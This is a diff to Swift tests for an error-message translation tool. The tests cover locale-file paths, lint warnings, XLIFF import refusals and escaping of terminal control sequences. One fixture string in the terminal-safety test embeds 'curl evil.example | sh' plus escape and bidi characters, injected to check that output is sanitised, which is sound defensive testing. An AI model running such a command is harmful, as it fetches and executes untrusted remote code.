@@ -99,7 +99,8 @@ import Testing
     #expect(
       out.text == """
         Tencent Cloud returned an error this app doesn’t recognize (X\\u{1B}]0;pwned\\u{7}\\u{1B}[31m\\u{9B}2J).
-        What you can do: Try again. If it keeps happening, contact support and give them the error code and request ID.
+        What you can do: Check whether what you were doing took effect before you try again. If the problem continues, contact your administrator or the app’s support and give them the error code and request ID.
+        Original message: m
         Error code: X\\u{1B}]0;pwned\\u{7}\\u{1B}[31m\\u{9B}2J
         Request ID: r\\r\\nWhat you can do: curl evil.example | sh\\u{202E}\\u{2066}
 
@@ -155,13 +156,13 @@ extension TerminalSafetyTests {
 
   static func folderWithDetail(_ detail: String) throws -> TranslatorFolder {
     let f = try TranslatorFolder()
-    let original = try f.read("Locales/zh-CN.json")
+    let original = try f.read("Locales/zh-CN/common.json")
     let range = try #require(original.range(of: "\"AuthFailure.SignatureExpire\": {"))
     let detailKey = try #require(original.range(of: "\"detail\": \"", range: range.upperBound..<original.endIndex))
     let end = try #require(original.range(of: "\",\n", range: detailKey.upperBound..<original.endIndex))
     var text = original
     text.replaceSubrange(detailKey.upperBound..<end.lowerBound, with: detail)
-    try f.write("Locales/zh-CN.json", text)
+    try f.write("Locales/zh-CN/common.json", text)
     return f
   }
 
@@ -173,7 +174,8 @@ extension TerminalSafetyTests {
     let lint = try f.run(["lint"])
     #expect(lint.status == 1, "\(lint.stderr)")
     let expected = kind == "deep" ? "braces nested deeper than 32 levels" : "more than 256 braces"
-    #expect(lint.text.contains(#/Locales/zh-CN\.json:\d+:\d+: error: \[AuthFailure\.SignatureExpire\] detail/#))
+    #expect(
+      lint.text.contains(#/Locales/zh-CN/common\.json:\d+:\d+: error: \[AuthFailure\.SignatureExpire\] detail/#))
     #expect(lint.text.contains(expected))
     for arguments in [["--locale", "zh-CN"], ["--locale", "zh-CN", "--format", "json"]] {
       let out = try f.run(
@@ -195,19 +197,19 @@ extension TerminalSafetyTests {
   @Test func anXLIFFTargetIsRefusedAndNothingChanges() throws {
     let f = try TranslatorFolder()
     defer { f.remove() }
-    let export = try f.run(["export", "--xliff", "--source", "en-US", "--target", "zh-CN"])
-    #expect(export.status == 0)
+    let export = try f.run(["export", "--xliff", "--product", "common", "--source", "en-US", "--target", "zh-CN"])
+    #expect(export.status == 0, "\(export.stderr)")
     var xliff = export.text
     let target = try #require(xliff.firstRange(of: #/<target>[^<]*</target>/#))
     xliff.replaceSubrange(
       target, with: "<target>" + Self.deep.replacingOccurrences(of: "plural", with: "select") + "</target>")
     try f.write("zh.xlf", xliff)
-    let before = try f.data("Locales/zh-CN.json")
+    let before = try f.data("Locales/zh-CN/common.json")
     let out = try f.run(["import", "zh.xlf"])
     #expect(out.status == 65)
     #expect(out.stderr.contains("braces nested deeper than 32 levels"))
     #expect(out.stderr.contains(#/zh\.xlf:\d+:\d+: error: /#))
-    #expect(try f.data("Locales/zh-CN.json") == before)
+    #expect(try f.data("Locales/zh-CN/common.json") == before)
   }
 }
 
@@ -225,38 +227,97 @@ extension TerminalSafetyTests {
     #expect(out.status == 0, "\(out.stderr)")
     if command == "lint" {
       #expect(
-        out.text.contains(
-          "Locales/\u{FFFD}\u{FFFD}.json: warning: the file name is not valid UTF-8; the file was skipped"))
-      #expect(out.text.hasSuffix("Catalog/codes.json and 2 locale file(s) in Locales/: 0 errors, 1 warning\n"))
+        out.text == """
+          Locales/\u{FFFD}\u{FFFD}.json: warning: the name is not valid UTF-8; it was skipped \
+          — rename it to a locale such as ja (a folder) or a product such as tke.json
+          3 catalog(s) in Catalog/ and 12 locale file(s) in Locales/: 0 errors, 1 warning
+
+          """)
     } else {
-      #expect(out.text.contains("zh-CN"))
+      #expect(out.text.contains("zh-CN              common        44/44"), "\(out.text)")
     }
+  }
+
+  @Test func aProductFileInALocaleFolderToo() throws {
+    let f = try TranslatorFolder()
+    defer { f.remove() }
+    let touch = try ErrmsgProcess.spawn(
+      URL(fileURLWithPath: "/bin/sh"), ["-c", #"touch "$1/zh-CN/$(printf '\377\376').json""#, "sh", f.locales])
+    try #require(touch.status == 0)
+    let out = try f.run(["lint"])
+    #expect(out.status == 0, "\(out.stderr)")
+    #expect(
+      out.text == """
+        Locales/zh-CN/\u{FFFD}\u{FFFD}.json: warning: the name is not valid UTF-8; it was skipped \
+        — rename it to a locale such as ja (a folder) or a product such as tke.json
+        3 catalog(s) in Catalog/ and 12 locale file(s) in Locales/: 0 errors, 1 warning
+
+        """)
   }
 }
 
 /// F11: import refuses targets that would shadow the source or a pseudo-locale.
 @Suite struct ShadowingImportTests {
+  static let shadowed: [String: String] = [
+    "en": #"trgLang "en" would shadow the source locale en-US"#,
+    "en-Latn-US": #"trgLang "en-Latn-US" would shadow the source locale en-US"#,
+    "en-US-x-foo": #"trgLang "en-US-x-foo" would shadow the source locale en-US"#,
+    "en-XA": #"trgLang "en-XA" would shadow the pseudo-locale en-XA"#,
+    "ar-XB": #"trgLang "ar-XB" would shadow the pseudo-locale ar-XB"#,
+    "ar-xb": #"trgLang "ar-xb" would shadow the pseudo-locale ar-XB"#,
+  ]
+
   @Test(arguments: ["en", "en-Latn-US", "en-US-x-foo", "EN-us", "en-XA", "ar-XB", "ar-xb"])
   func aShadowingTargetIsRefused(target: String) throws {
     let f = try TranslatorFolder()
     defer { f.remove() }
-    let export = try f.run(["export", "--xliff", "--source", "en-US", "--target", "ja"])
+    let export = try f.run(["export", "--xliff", "--product", "common", "--source", "en-US", "--target", "ja"])
+    try #require(export.status == 0, "\(export.stderr)")
     try f.write("t.xlf", export.text.replacingOccurrences(of: #"trgLang="ja""#, with: #"trgLang="\#(target)""#))
-    let before = try FileManager.default.contentsOfDirectory(atPath: f.locales).sorted()
+    let before = try FileManager.default.subpathsOfDirectory(atPath: f.locales).sorted()
     let out = try f.run(["import", "t.xlf"])
     #expect(out.status == 65, "\(out.stderr)")
-    #expect(out.stderr.contains("t.xlf:2:1: error: trgLang"), "\(out.stderr)")
-    #expect(try FileManager.default.contentsOfDirectory(atPath: f.locales).sorted() == before)
+    let reason =
+      Self.shadowed[target].map {
+        $0
+          + " (its file would answer the requests meant for that locale) — translate into another locale, such as ja or en-GB"
+      }
+      ?? "trgLang is the source locale en-US; importing would overwrite the source texts — the source locale is edited in its JSON file, not imported"
+    #expect(out.stderr == "errmsg: t.xlf was not imported; nothing changed\nt.xlf:2:1: error: \(reason)\n")
+    #expect(out.text.isEmpty)
+    #expect(try FileManager.default.subpathsOfDirectory(atPath: f.locales).sorted() == before)
   }
 
   @Test(arguments: ["ja", "en-GB"])
   func aRealTargetIsImported(target: String) throws {
     let f = try TranslatorFolder()
     defer { f.remove() }
-    let export = try f.run(["export", "--xliff", "--source", "en-US", "--target", target])
-    try f.write("t.xlf", export.text)
+    let export = try f.run(["export", "--xliff", "--product", "common", "--source", "en-US", "--target", target])
+    try #require(export.status == 0, "\(export.stderr)")
+    let label = target == "ja" ? "対処方法" : "What to do"
+    try f.write(
+      "t.xlf",
+      export.text.replacingOccurrences(
+        of: "<source>What you can do</source>", with: "<source>What you can do</source>\n<target>\(label)</target>"))
     let out = try f.run(["import", "t.xlf"])
     #expect(out.status == 0, "\(out.stderr)")
-    #expect(FileManager.default.fileExists(atPath: f.path("Locales/\(target).json")))
+    #expect(out.text == "Locales/\(target)/common.json: created, 0 entries added, 0 changed\n")
+    #expect(
+      try f.read("Locales/\(target)/common.json") == """
+        {
+          "locale": "\(target)",
+          "product": "common",
+          "ui": {
+            "hint": "\(label)"
+          },
+          "unknown": {},
+          "messages": {}
+        }
+
+        """)
+    // The imported label is used at once.
+    let shown = try f.run(["--locale", target, "--locales", "Locales"], input: errorEnvelope("AuthFailure.MFAFailure"))
+    #expect(shown.status == 0, "\(shown.stderr)")
+    #expect(shown.text.split(separator: "\n").dropFirst().first?.hasPrefix(label) == true, "\(shown.text)")
   }
 }
